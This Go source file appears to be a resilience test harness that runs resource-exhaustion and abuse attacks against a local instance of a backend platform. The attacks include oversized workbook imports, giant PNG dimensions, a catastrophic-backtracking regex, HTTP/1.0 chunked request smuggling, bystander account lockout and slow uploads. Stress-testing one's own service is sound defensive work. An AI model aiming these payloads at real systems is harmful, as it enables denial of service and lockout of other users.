package main

import (
	"archive/zip"
	"bytes"
	"compress/zlib"
	"context"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"hash/crc32"
	"io"
	"net"
	"net/http"
	"slices"
	"strings"
	"sync"
	"time"
)

// attacks are all attacks in order. Attacks that can crash the server come last.
var attacks = []attack{
	{"xlsx-runs", "import of a workbook with one text in 160,000 runs",
		workbooks("xl/sharedStrings.xml", `<sst><si>`, `<r><t>x</t></r>`, 160_000, `</si></sst>`)},
	{"xlsx-texts", "imports of workbooks with 3,000,000 empty texts, six at once",
		workbooks("xl/sharedStrings.xml", `<sst>`, `<si/>`, 3_000_000, `</sst>`)},
	{"xlsx-attributes", "imports of workbooks with 1,500,000 attributes, six at once",
		workbooks("xl/sharedStrings.xml", `<sst `, `a="" `, 1_500_000, `/>`)},
	{"xlsx-sheets", "imports of workbooks with 40,000 sheets, six at once",
		workbooks("xl/workbook.xml", bookStart, `<sheet name="x" r:id="b"/>`, 40_000, bookEnd)},
	{"login-bodies", "100 log-ins at once with 1 MB of empty objects each, without an account", loginBodies},
	{"picture-wide", "24 pictures of 50,000,000 × 1 at once, made smaller", pictures(50_000_000, 1)},
	{"picture-tall", "24 pictures of 1 × 50,000,000 at once, made smaller", pictures(1, 50_000_000)},
	{"form-patterns", "answers of 100,000 letters to ten fields with slow patterns", patterns},
	{"rows-csv", "rows in CSV with a header of 20,000 characters, to a table that is not there", rowsCSV("nosuch")},
	{"rows-csv-table", "the same to a table", rowsCSV("items")},
	{"rows-keys", "a row of 150,000 members", rowsKeys},
	{"rows-parameters", "a call with 60 kB of parameters", rowsParameters},
	{"rows-search", "a full-text search of 5,000 terms", rowsSearch},
	{"sql-wide", "six results of 1,600 columns and 10,000 rows at once", sqlWide},
	{"http10-chunked", "a request in HTTP/1.0 with Transfer-Encoding, and another one in its body", http10},
	{"login-lockout", "ten wrong passwords for the account of another, from another network", lockout},
	{"upload-slow", "20 uploads of a byte in 10 s", slowUploads},

	{"sql-catches", "SQL that catches its cancellation", sqlCatches},
	{"schema-catches", "a constraint whose code catches its cancellation", schemaCatches},
	{"notify-flood", "450,000 notifications in three transactions", notifyFlood},
	{"regrole", "casts that name other projects, with a publishable key", regrole},
	{"headers", "headers set by a function", headers},
	{"advisory-locks", "80,000 advisory locks in one session", advisoryLocks},
	{"share-log-ins", "640 log-ins in flight in ten projects of one user", logIns.run},
	{"share-mails", "a mail server that accepts connections and says nothing, in ten projects of one user", mails.run},
	{"share-restores", "restores with a check that sleeps, in two organizations of one user", restores.run},
	{"share-providers", "identity providers that hang, in ten projects of one user", signIns.run},
	{"share-sessions", "79 sessions of PostgreSQL clients in ten projects of one user", sessions.run},
	{"share-silence", "32 silent connections from each of ten addresses, without an account", silence.run},
	{"share-all", "log-ins, mails, restores, providers and silence at once", everything},

	{"error-text", "an error with a text of 400 MB", errorText},
	{"aggregates", "four aggregates of 1 GB at once", aggregates},
}

// atOnce makes n concurrent calls of f, and returns the distinct results with their counts.
func atOnce(n int, f func(i int) string) string {
	counts := map[string]int{}
	var mu sync.Mutex
	var wg sync.WaitGroup
	for i := range n {
		wg.Go(func() {
			got := f(i)

			mu.Lock()
			defer mu.Unlock()

			counts[got]++
		})
	}

	wg.Wait()

	var all []string
	for what, times := range counts {
		if n == 1 {
			return what
		}
		all = append(all, fmt.Sprintf("%d× %s", times, what))
	}

	slices.Sort(all)
	return strings.Join(all, ", ")
}

// post sends a body as the attacker, and summarizes the response.
func (s *environment) post(ctx context.Context, path string, body []byte, contentType string) string {
	return summarize(s.send(ctx, "POST", path, s.account, body, contentType))
}

// sql runs SQL as the attacker.
func (s *environment) sql(ctx context.Context, query string, further string) string {
	text, _ := json.Marshal(query)
	return s.post(ctx, "/sql", []byte(`{"query": `+string(text)+further+`}`), "application/json")
}

const writing = `, "read_only": false`

func (s *environment) rows() string { return "/projects/" + s.project + "/rest/v1/" }

const (
	bookStart = `<workbook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>`
	bookEnd   = `<sheet name="One" r:id="a"/></sheets></workbook>`
	bookType  = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
)

// workbooks imports a workbook with one highly repetitive part: once, then six times concurrently.
func workbooks(part, start, much string, times int, end string) func(context.Context, *environment) string {
	return func(ctx context.Context, s *environment) string {
		parts := map[string]string{
			"xl/workbook.xml":            bookStart + bookEnd,
			"xl/_rels/workbook.xml.rels": `<Relationships><Relationship Id="a" Target="one.xml"/><Relationship Id="b" Target="one.xml"/></Relationships>`,
			"xl/one.xml":                 `<worksheet><sheetData><row r="1"><c t="inlineStr"><is><t>name</t></is></c></row><row r="2"><c t="s"><v>0</v></c></row></sheetData></worksheet>`,
		}

		parts[part] = start + strings.Repeat(much, times) + end
		var b bytes.Buffer
		z := zip.NewWriter(&b)
		for name, text := range parts {
			w, err := z.Create(name)
			if err == nil {
				_, err = io.WriteString(w, text)
			}
			if err != nil {
				return err.Error()
			}
		}

		if err := z.Close(); err != nil {
			return err.Error()
		}

		s.startClock()
		path := "/tables/import?dry_run=true&name=book"
		one := s.post(ctx, path, b.Bytes(), bookType)

		return one + "; " + atOnce(6, func(int) string { return s.post(ctx, path, b.Bytes(), bookType) })
	}
}

func loginBodies(ctx context.Context, s *environment) string {
	body := []byte(`{"a":[` + strings.Repeat(`{},`, 340_000) + `{}]}`)
	s.startClock()

	return atOnce(100, func(int) string {
		return summarize(s.send(ctx, "POST", "/users/login", account{}, body, "application/json"))
	})
}

// pictures requests variants of a PNG of one color.
func pictures(width, height uint32) func(context.Context, *environment) string {
	return func(ctx context.Context, s *environment) string {
		var pixels bytes.Buffer
		z := zlib.NewWriter(&pixels)
		row := make([]byte, 1+width) // filter byte, then one byte per pixel
		for range height {
			if _, err := z.Write(row); err != nil {
				return err.Error()
			}
		}

		if err := z.Close(); err != nil {
			return err.Error()
		}

		picture := []byte("\x89PNG\r\n\x1a\n")
		head := append(binary.BigEndian.AppendUint32(binary.BigEndian.AppendUint32(nil, width), height), 8, 0, 0, 0, 0)
		for _, chunk := range []struct {
			kind string
			data []byte
		}{{"IHDR", head}, {"IDAT", pixels.Bytes()}, {"IEND", nil}} {
			picture = binary.BigEndian.AppendUint32(picture, uint32(len(chunk.data)))
			typed := append([]byte(chunk.kind), chunk.data...)
			picture = binary.BigEndian.AppendUint32(append(picture, typed...), crc32.ChecksumIEEE(typed))
		}

		container, err := s.json("POST", "/containers", s.account,
			fmt.Sprintf(`{"name": "p%dx%d", "is_public": true}`, width, height))
		if err != nil {
			return err.Error()
		}

		path := "/files/" + s.project + "/" + container.text("content", "uuid") + "/p.png"
		if said := summarize(s.send(ctx, "PUT", path, s.account, picture, "image/png")); !strings.HasPrefix(said,
			"20") {
			return "upload: " + said
		}

		s.startClock()
		return atOnce(24, func(i int) string {
			return summarize(s.send(ctx, "GET", fmt.Sprintf("%s?width=%d", path, 4096-i), account{}, nil, ""))
		})
	}
}

func patterns(ctx context.Context, s *environment) string {
	const field = `{"label": "a", "type": "text", "pattern": "(?:(?:.?){1000})*!"}`
	form, err := s.json("POST", "/forms", s.account, `{"name": "slow"}`)
	if err != nil {
		return err.Error()
	}

	path := "/forms/" + form.text("content", "uuid")
	made, err := s.json("POST", path+"/fields", s.account, `{"fields": [`+field+strings.Repeat(","+field, 9)+`]}`)
	if err != nil {
		return err.Error()
	}

	if _, err := s.json("PUT", path, s.account, `{"state": "open"}`); err != nil {
		return err.Error()
	}

	metadata, _ := made["metadata"].(map[string]any)
	fields, _ := metadata["fields"].([]any)

	var answers []string
	for _, f := range fields {
		answers = append(answers,
			fmt.Sprintf(`%q: %q`, answer(f.(map[string]any)).text("uuid"), strings.Repeat("a", 100_000)))
	}

	s.startClock()
	return atOnce(2, func(int) string {
		return s.post(ctx, path+"/responses", []byte(`{"answers": {`+strings.Join(answers, ",")+`}}`),
			"application/json")
	})
}

func rowsCSV(table string) func(context.Context, *environment) string {
	return func(ctx context.Context, s *environment) string {
		body := []byte(strings.Repeat("n", 20_000) + "\n" + strings.Repeat("1\n", 20_000))
		return atOnce(4, func(int) string { return s.post(ctx, s.rows()+table, body, "text/csv") })
	}
}

func rowsKeys(ctx context.Context, s *environment) string {
	var body strings.Builder
	body.WriteString(`{"name":"x"`)

	for i := range 150_000 {
		fmt.Fprintf(&body, `,"k%d":0`, i)
	}

	return atOnce(4, func(int) string {
		return s.post(ctx, s.rows()+"items", []byte(body.String()+"}"), "application/json")
	})
}

func rowsParameters(ctx context.Context, s *environment) string {
	var query strings.Builder
	for i := 0; query.Len() < 60_000; i++ {
		fmt.Fprintf(&query, "&k%d=1", i)
	}

	return atOnce(4, func(int) string {
		return summarize(s.send(ctx, "GET", s.rows()+"rpc/nosuch?"+query.String()[1:], s.account, nil, ""))
	})
}

func rowsSearch(ctx context.Context, s *environment) string {
	return atOnce(4, func(int) string {
		return summarize(
			s.send(ctx, "GET", s.rows()+"items?name=fts."+strings.Repeat("term%7C", 5_000)+"x", s.account, nil, ""),
		)
	})
}

func sqlWide(ctx context.Context, s *environment) string {
	query := "select null" + strings.Repeat(",null", 1599) + " from generate_series(1, 10000)"
	return atOnce(6, func(int) string { return s.sql(ctx, query, `, "max_rows": 10000, "timeout_ms": 30000`) })
}

// http10 sends ambiguously framed requests, which two servers would split differently, and counts
// the responses.
func http10(ctx context.Context, s *environment) string {
	conn, err := (&net.Dialer{}).DialContext(ctx, "tcp", strings.TrimPrefix(s.url, "http://"))
	if err != nil {
		return err.Error()
	}
	defer conn.Close()

	_ = conn.SetDeadline(time.Now().Add(10 * time.Second))
	inner := "GET /readyz HTTP/1.1\r\nHost: a\r\n\r\n"
	_, _ = fmt.Fprintf(conn,
		"POST /users/login HTTP/1.0\r\nHost: a\r\nContent-Type: application/json\r\nConnection: keep-alive\r\nTransfer-Encoding: chunked\r\n\r\n%x\r\n%s\r\n0\r\n\r\n", len(inner), inner)

	text, _ := io.ReadAll(conn)
	first, _, _ := strings.Cut(string(text), "\r\n")

	return fmt.Sprintf("%d answers, first %s", strings.Count(string(text), "HTTP/1."),
		strings.TrimPrefix(first, "HTTP/1.0 "))
}

// lockout logs in as the bystander with wrong passwords, then with the right one from another
// network.
func lockout(ctx context.Context, s *environment) string {
	from := func(address, password string) string {
		local := &net.TCPAddr{IP: net.ParseIP(address)}
		client := &http.Client{
			Transport: &http.Transport{
				DialContext: (&net.Dialer{LocalAddr: local}).DialContext, DisableKeepAlives: true,
			},
		}

		body := fmt.Sprintf(`{"email": %q, "password": %q}`, s.bystander.email, password)

		r, err := http.NewRequestWithContext(ctx, "POST", s.url+"/users/login", strings.NewReader(body))
		if err != nil {
			return err.Error()
		}

		r.Header.Set("Content-Type", "application/json")

		res, err := client.Do(r)
		if err != nil {
			return summarize(0, nil, err)
		}
		defer res.Body.Close()

		text, err := io.ReadAll(res.Body)
		return summarize(res.StatusCode, text, err)
	}

	wrong := ""
	for i := range 12 {
		wrong = from(fmt.Sprintf("127.0.%d.9", i%4), "wrong")
	}

	s.notes = append(s.notes, "the owner: "+from("127.9.9.9", password))
	return wrong
}

func slowUploads(ctx context.Context, s *environment) string {
	ctx, cancel := context.WithTimeout(ctx, 45*time.Second)
	defer cancel()

	container, err := s.json("POST", "/containers", s.account, fmt.Sprintf(`{"name": "slow%d"}`, time.Now().UnixNano()))
	if err != nil {
		return err.Error()
	}

	return atOnce(20, func(i int) string {
		conn, err := (&net.Dialer{}).DialContext(ctx, "tcp", strings.TrimPrefix(s.url, "http://"))
		if err != nil {
			return err.Error()
		}
		defer conn.Close()

		_, _ = fmt.Fprintf(conn,
			"PUT /files/%s/%s/f%d HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer %s\r\nContent-Type: text/plain\r\nContent-Length: 1000\r\n\r\n",
			s.project, container.text("content", "uuid"), i, s.token)

		for {
			if _, err := conn.Write([]byte("x")); err != nil {
				return "ended"
			}

			_ = conn.SetReadDeadline(time.Now().Add(10 * time.Second))

			if n, err := conn.Read(make([]byte, 4096)); n > 0 || err == io.EOF {
				return "ended"
			}
			if ctx.Err() != nil {
				return "still open"
			}
		}
	})
}
